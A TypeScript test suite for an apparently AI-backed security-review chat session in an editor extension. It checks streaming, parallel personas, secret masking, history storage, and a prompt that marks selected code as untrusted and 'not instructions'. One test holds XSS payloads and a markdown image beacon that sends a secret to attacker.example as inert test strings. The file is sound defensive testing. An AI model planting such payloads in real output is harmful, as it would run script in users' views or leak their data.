import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { HISTORY_KEY } from '../../client/src/chat/history';
import { BUILTIN_PERSONA_IDS, loadPersonas, type Persona } from '../../client/src/chat/personas';
import { ToWebviewSchema, type ToWebview, type Turn } from '../../client/src/chat/protocol';
import { ChatSession } from '../../client/src/chat/session';
import type { ChatContext, RuleDoc } from '../../client/src/chat/types';
import { ALL_RULES } from '../../server/src/rules/index';
import {
  errorBody,
  startFakeAnthropic,
  textEvents,
  type FakeAnthropic,
  type Reply,
  type Script,
} from '../helpers/fakeAnthropic';
import { agentsDir, MemoryStore } from './helpers';

const KEY = ['sk-ant-api03-', 'SESSIONKEY', 'y'.repeat(24)].join('');
const AWS = ['AKIA', 'IOSFODNN7EXAMPLE'].join('');
const PW = 'correct-horse-battery';
const FENCE = '```';

const RULES: RuleDoc[] = ALL_RULES.map((r) => ({
  id: r.meta.id,
  name: r.meta.name,
  title: r.meta.title,
  severity: r.meta.severity,
  cwe: r.meta.cwe,
  summary: r.meta.docs.summary,
  why: r.meta.docs.why,
  fix: r.meta.docs.fix,
}));

const CONTEXT: ChatContext = {
  path: 'app/views.py',
  languageId: 'python',
  selection: {
    text: [
      'def users():',
      '    name = request.args["name"]',
      `    key = "${AWS}"`,
      `    password = "${PW}"`,
      '    return db.execute(f"SELECT * FROM users WHERE name = \'{name}\'")',
    ].join('\n'),
    startLine: 10,
    endLine: 14,
  },
  findings: [
    { ruleId: 'FS201', line: 14, message: 'SQL built from request data', severity: 'error', cwe: ['CWE-89'] },
  ],
};

const FINDINGS_BLOCK = `\n\n${FENCE}flask-sentinel-findings\n${JSON.stringify([
  {
    severity: 'critical',
    title: 'SQL injection',
    cwe: 'CWE-89',
    line: 14,
    explanation: 'name flows into the query',
    replacement: '    return db.execute("SELECT * FROM users WHERE name = ?", (name,))',
  },
])}\n${FENCE}\n`;

/** The answer split in small chunks, so the findings fence arrives in pieces. */
function chunked(text: string, size = 7): string[] {
  const out: string[] = [];
  for (let i = 0; i < text.length; i += size) out.push(text.slice(i, i + size));
  return out;
}

let personas: Persona[] = [];
const servers: FakeAnthropic[] = [];
before(async () => {
  personas = await loadPersonas({ builtinDir: agentsDir, workspaceFolders: [], trusted: false });
});
after(async () => {
  for (const s of servers) await s.close();
});

async function setup(script: Script | Reply[], key: string | null = KEY) {
  const server = await startFakeAnthropic(script);
  servers.push(server);
  const posted: ToWebview[] = [];
  const logs: string[] = [];
  const store = new MemoryStore();
  let n = 0;
  const session = new ChatSession({
    personas: () => [
      ...personas,
      {
        ...personas[0]!,
        id: 'workspace:claude/broken',
        source: 'workspace',
        error: 'bad front matter',
        body: '',
      },
    ],
    projectContext: () => undefined,
    rules: () => RULES,
    getApiKey: () => Promise.resolve(key ?? undefined),
    settings: () => ({
      model: 'claude-sonnet-5-5',
      maxTokens: 2048,
      baseURL: server.baseURL,
      maxRetries: 0,
      timeoutMs: 10_000,
    }),
    store,
    post: (m) => posted.push(m),
    log: (level, m) => logs.push(`${level}: ${m}`),
    newId: () => `id-${++n}`,
    now: () => Date.UTC(2026, 10, 22, 12),
  });
  const everything = (): string =>
    JSON.stringify(posted) + logs.join('\n') + [...store.data.values()].join('');
  return { server, session, posted, logs, store, everything };
}

function assertValidMessages(posted: ToWebview[]): void {
  for (const m of posted) assert.ok(ToWebviewSchema.safeParse(m).success, `invalid ${m.type} message`);
}

describe('chat session', () => {
  it('streams one persona: turnStart, deltas without the findings block, turnEnd with findings and usage', async () => {
    const prose = '### Risk summary\n\nThe query on line 14 is built from `name`.';
    const { server, session, posted, store, everything } = await setup([
      {
        kind: 'stream',
        steps: textEvents(chunked(prose + FINDINGS_BLOCK), { inputTokens: 900, outputTokens: 120 }),
      },
    ]);
    const [turn] = await session.ask({
      personaId: 'backend-security-expert',
      prompt: 'Is this safe?',
      context: CONTEXT,
    });
    assertValidMessages(posted);
    assert.deepEqual([...new Set(posted.map((m) => m.type))], ['turnStart', 'delta', 'turnEnd']);
    const start = posted[0] as Extract<ToWebview, { type: 'turnStart' }>;
    assert.equal(start.turn.status, 'streaming');
    assert.equal(start.turn.model, 'claude-sonnet-5-5');
    assert.deepEqual(
      start.turn.context.map((c) => c.label),
      ['app/views.py', 'lines 10–14', '1 finding in range', '2 secrets masked'],
    );
    const streamed = posted
      .filter((m): m is Extract<ToWebview, { type: 'delta' }> => m.type === 'delta')
      .map((m) => m.text)
      .join('');
    assert.equal(streamed.trimEnd(), prose, 'the findings block never reaches the webview as text');
    assert.ok(turn);
    assert.equal(turn.status, 'done');
    assert.equal(turn.answer, prose);
    assert.deepEqual(
      turn.findings?.map((f) => [f.severity, f.line, f.cwe]),
      [['critical', 14, 'CWE-89']],
    );
    assert.equal(turn.usage?.inputTokens, 900);
    assert.equal(turn.usage?.outputTokens, 120);
    assert.ok((turn.usage?.costUsd ?? 0) > 0);
    assert.deepEqual((posted.at(-1) as Extract<ToWebview, { type: 'turnEnd' }>).turn, turn);
    assert.deepEqual(session.history.list(), [turn]);
    assert.ok(store.writes >= 2);

    // What the API received.
    const req = server.requests[0];
    const body = req?.body as {
      model: string;
      system: { type: string; text: string; cache_control?: unknown }[];
      messages: { role: string; content: { type: string; text: string }[] }[];
    };
    assert.equal(body.model, 'claude-sonnet-5-5');
    assert.equal(body.system.length, 3);
    assert.match(body.system[0]?.text ?? '', /^# Your persona: backend-security-expert/);
    assert.match(body.system[0]?.text ?? '', /cryptocurrency/);
    assert.deepEqual(body.system[2]?.cache_control, { type: 'ephemeral' });
    const user = body.messages[0]?.content[0]?.text ?? '';
    assert.match(user, /<untrusted_code path="app\/views\.py" lines="10-14">\n10 \| def users\(\):/);
    assert.match(user, /<\/untrusted_code>/);
    assert.match(
      user,
      /<linter_findings>\n- line 14: FS201 \(error, CWE-89\) SQL built from request data\n<\/linter_findings>/,
    );
    assert.match(user, /not instructions/);
    assert.ok(!req?.rawBody.includes(AWS), 'the AWS key was not sent');
    assert.ok(!req?.rawBody.includes(PW), 'the password was not sent');
    assert.ok(!everything().includes(KEY), 'the API key is in no message, log or history');
  });

  it('asks all four built-in personas in parallel, as one group', async () => {
    let release!: () => void;
    const allArrived = new Promise<void>((resolve) => (release = resolve));
    let arrived = 0;
    const { server, session, posted } = await setup(async () => {
      if (++arrived === 4) release();
      // Nobody answers until all four requests are in: a sequential implementation would hang here.
      await Promise.race([
        allArrived,
        new Promise((_, reject) => setTimeout(() => reject(new Error('requests were not parallel')), 5000)),
      ]);
      return { kind: 'stream', steps: textEvents(['Reviewed.', FINDINGS_BLOCK]) };
    });
    const turns = await session.ask({ personaId: '*all', prompt: 'Review', context: CONTEXT });
    assert.equal(server.requests.length, 4);
    assert.deepEqual(
      turns.map((t) => t.personaId),
      [...BUILTIN_PERSONA_IDS],
    );
    assert.equal(new Set(turns.map((t) => t.group)).size, 1);
    assert.ok(turns[0]?.group);
    for (const t of turns) {
      assert.equal(t.status, 'done');
      assert.equal(t.answer, 'Reviewed.');
      assert.equal(t.findings?.length, 1);
    }
    const systems = server.requests.map((r) => (r.body as { system: { text: string }[] }).system[0]?.text);
    assert.equal(new Set(systems).size, 4, 'each persona sends its own system prompt');
    assert.equal(posted.filter((m) => m.type === 'turnStart').length, 4);
    assertValidMessages(posted);
  });

  it('stop by turn id aborts that request and keeps the partial answer', async () => {
    const chunks = Array.from({ length: 50 }, (_, i) => `part${i} `);
    const { server, session, posted } = await setup([
      { kind: 'stream', steps: textEvents(chunks, { delayMs: 20 }) },
    ]);
    const pending = session.ask({ personaId: 'backend-python-expert', prompt: 'Review', context: CONTEXT });
    await new Promise<void>((resolve) => {
      const timer = setInterval(() => {
        if (posted.filter((m) => m.type === 'delta').length >= 2) {
          clearInterval(timer);
          resolve();
        }
      }, 5);
    });
    const [turnId] = session.running();
    assert.ok(turnId);
    assert.equal(session.stop(turnId), true);
    const [turn] = await pending;
    assert.equal(turn?.status, 'stopped');
    assert.ok(turn?.answer.startsWith('part0 part1 '));
    assert.ok((turn?.answer.length ?? 0) < chunks.join('').length);
    await server.requests[0]?.closed;
    assert.equal(server.requests[0]?.aborted, true);
    assert.equal(session.stop(turnId), false, 'nothing left to stop');
    assert.equal(session.history.get(turnId)?.status, 'stopped');
  });

  it('keeps the partial answer on a mid-stream error, and retry re-sends the same context as a new turn', async () => {
    const { server, session } = await setup([
      { kind: 'stream', steps: textEvents(['Half ', 'an answer'], { errorAfter: 1 }) },
      { kind: 'stream', steps: textEvents(['Full answer.']) },
    ]);
    const [failed] = await session.ask({
      personaId: 'flask-security-architect',
      prompt: 'Review',
      context: CONTEXT,
    });
    assert.equal(failed?.status, 'error');
    assert.equal(failed?.answer, 'Half ');
    assert.equal(failed?.error?.retryable, true);
    assert.match(failed?.error?.message ?? '', /partial answer is kept/);
    const retried = await session.retry(failed?.id ?? '');
    assert.ok(retried);
    assert.notEqual(retried.id, failed?.id);
    assert.equal(retried.status, 'done');
    assert.equal(retried.answer, 'Full answer.');
    assert.equal(retried.personaId, 'flask-security-architect');
    assert.equal(server.requests.length, 2);
    assert.deepEqual(
      (server.requests[1]?.body as { messages: unknown }).messages,
      (server.requests[0]?.body as { messages: unknown }).messages,
    );
    assert.deepEqual(
      session.history.list().map((t) => [t.status, t.answer]),
      [
        ['error', 'Half '],
        ['done', 'Full answer.'],
      ],
    );
  });

  it('answers offline from the local analysis when there is no key', async () => {
    const { server, session, posted } = await setup([{ kind: 'hang' }], null);
    const [turn] = await session.ask({
      personaId: 'backend-security-architect',
      prompt: 'Review',
      context: CONTEXT,
    });
    assert.equal(server.requests.length, 0, 'no request without a key');
    assert.equal(turn?.offline, true);
    assert.equal(turn?.model, undefined);
    assert.equal(turn?.status, 'done');
    assert.match(turn?.answer ?? '', /Offline answer/);
    assert.match(turn?.answer ?? '', /^### Threat model$/m);
    assert.ok(!turn?.answer.includes('flask-sentinel-findings'));
    assert.deepEqual(
      turn?.findings?.map((f) => [f.severity, f.line, f.cwe]),
      [['high', 14, 'CWE-89']],
    );
    assertValidMessages(posted);
  });

  it('keeps XSS and exfiltration payloads as inert strings in the protocol messages', async () => {
    const payloads = [
      '<script>alert(1)</script>',
      '<img src=x onerror=alert(1)>',
      '[link](javascript:alert(1))',
      '![beacon](https://attacker.example/c?d=secret)',
      '<svg/onload=alert(1)>',
    ];
    const { session, posted } = await setup([{ kind: 'stream', steps: textEvents(payloads) }]);
    const [turn] = await session.ask({ personaId: 'backend-security-expert', prompt: 'x', context: CONTEXT });
    assert.equal(turn?.answer, payloads.join(''));
    const deltas = posted.filter((m): m is Extract<ToWebview, { type: 'delta' }> => m.type === 'delta');
    assert.deepEqual(
      deltas.map((d) => d.text),
      payloads,
    );
    for (const m of posted) {
      const parsed = ToWebviewSchema.parse(JSON.parse(JSON.stringify(m)));
      assert.deepEqual(parsed, m, 'the message is plain data that survives postMessage unchanged');
    }
    assert.deepEqual(
      [...new Set(posted.map((m) => m.type))],
      ['turnStart', 'delta', 'turnEnd'],
      'model output produces no other kind of message',
    );
  });

  it('401: the turn says to set the key; the key is nowhere', async () => {
    const { session, everything } = await setup([
      { kind: 'error', status: 401, body: errorBody('authentication_error', `bad key ${KEY}`) },
    ]);
    const [turn] = await session.ask({ personaId: 'backend-security-expert', prompt: 'x', context: CONTEXT });
    assert.equal(turn?.status, 'error');
    assert.equal(turn?.error?.retryable, false);
    assert.match(turn?.error?.message ?? '', /Set Anthropic API Key/);
    assert.ok(!everything().includes(KEY));
    assert.ok(!everything().includes('SESSIONKEY'));
  });

  it('refuses unknown and invalid personas with a notice, and a retry it cannot honour', async () => {
    const { session, posted, server } = await setup([{ kind: 'hang' }]);
    assert.deepEqual(await session.ask({ personaId: 'nope', prompt: 'x', context: CONTEXT }), []);
    assert.deepEqual(
      await session.ask({ personaId: 'workspace:claude/broken', prompt: 'x', context: CONTEXT }),
      [],
    );
    assert.equal(await session.retry('never-asked'), undefined);
    assert.deepEqual(
      posted.map((m) => m.type),
      ['notice', 'notice', 'notice'],
    );
    assert.match((posted[1] as Extract<ToWebview, { type: 'notice' }>).message, /invalid: bad front matter/);
    assert.equal(server.requests.length, 0);
  });

  it('shows the chips before sending, and restores history across sessions', async () => {
    const { session, store } = await setup([{ kind: 'stream', steps: textEvents(['ok']) }]);
    const chips = session.contextChips(CONTEXT, 'Is this safe?');
    assert.deepEqual(
      chips.map((c) => c.kind),
      ['file', 'range', 'finding', 'redaction'],
    );
    await session.ask({ personaId: 'backend-security-expert', prompt: 'x', context: CONTEXT });
    const saved = store.get<{ turns: Turn[] }>(HISTORY_KEY);
    assert.equal(saved?.turns.length, 1);
    assert.equal(saved?.turns[0]?.context.length, chips.length);
    assert.ok(!JSON.stringify(saved).includes('request.args'), 'the selected code is not stored');
  });
});
